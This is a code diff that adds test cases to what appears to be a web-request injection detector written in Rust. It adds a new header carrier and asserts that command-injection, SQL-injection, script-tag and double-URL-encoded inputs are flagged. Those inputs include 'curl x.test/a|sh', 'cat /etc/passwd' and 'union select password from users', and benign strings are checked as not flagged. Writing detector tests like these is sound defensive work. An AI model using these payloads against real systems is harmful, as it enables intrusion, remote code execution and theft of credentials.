@@ -40,6 +40,7 @@ fn carrier_of(rule: &Rule) -> Carrier {
         Carrier::Path,
         Carrier::XmlDtd,
         Carrier::Header,
+        Carrier::PartHeader,
     ]
     .into_iter()
     .find(|&carrier| rule.carriers.contains(carrier))
@@ -274,11 +275,37 @@ fn what_looks_like_talk_is_judged() {
         "this & id</tmp/x",
         "this & cat /etc/passwd</p>",
         "this && curl x.test/a|sh</p>",
+        "admin '<'.9",
+        "x '<'.5",
+        "x \"<\".5",
+        "http://example.com/?a=$(id -u>proof&b=1)",
+        "http://example.com/?a=x%2527&id=1%2523",
+        "1;select null delete from users",
+        "1 or exists(select a delete from users)",
+        "%PDF-' union select password from users-- ",
+        "subprocess. call('id')",
+        "subprocess.__dict__['run']('id')",
+        "hello `<script>`",
     ] {
         for carrier in [Carrier::FormValue, Carrier::JsonValue] {
             let total = judge_with(&detector, carrier, value.as_bytes()).total();
             assert!(total >= Paranoia::One.threshold(), "{value} in {carrier:?}");
         }
+    }
+}
+
+/// Letters that are escaped once more are evidence by themselves, whatever they say.
+#[test]
+fn harmless_letters_that_are_hidden_are_judged() {
+    let detector = Detector::new();
+    let link = "http://www.example.net/go?to=%2568%2565%256c%256c%256f";
+    for value in ["%68%65%6c%6c%6f", "say %u0068%u0065%u006c%u006c", link] {
+        let total = judge_with(&detector, Carrier::QueryValue, value.as_bytes()).total();
+        assert!(total >= Paranoia::One.threshold(), "{value}");
+    }
+    for value in ["%e4%b8%ad%e6%96%87", "a%5fb%2dc%2e%41%42", "100%"] {
+        let found = judge_with(&detector, Carrier::QueryValue, value.as_bytes());
+        assert!(found.is_empty(), "{value}");
     }
 }
 
